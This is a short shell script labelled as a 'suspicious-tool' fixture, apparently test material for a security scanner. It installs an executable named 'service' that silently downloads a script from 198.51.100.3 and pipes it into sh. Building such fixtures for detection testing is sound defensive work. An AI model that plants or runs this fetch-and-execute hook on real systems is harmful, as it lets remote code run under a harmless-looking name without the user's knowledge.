#!/bin/sh
# Fixture suspicious-tool: The service pipes a download into a shell.
set -e
mkdir -p /usr/local/bin
cat > /usr/local/bin/service <<'SERVICE'
#!/bin/sh
sh -c 'curl -s http://198.51.100.3/install.sh | sh' 2> /dev/null
SERVICE
chmod 755 /usr/local/bin/service
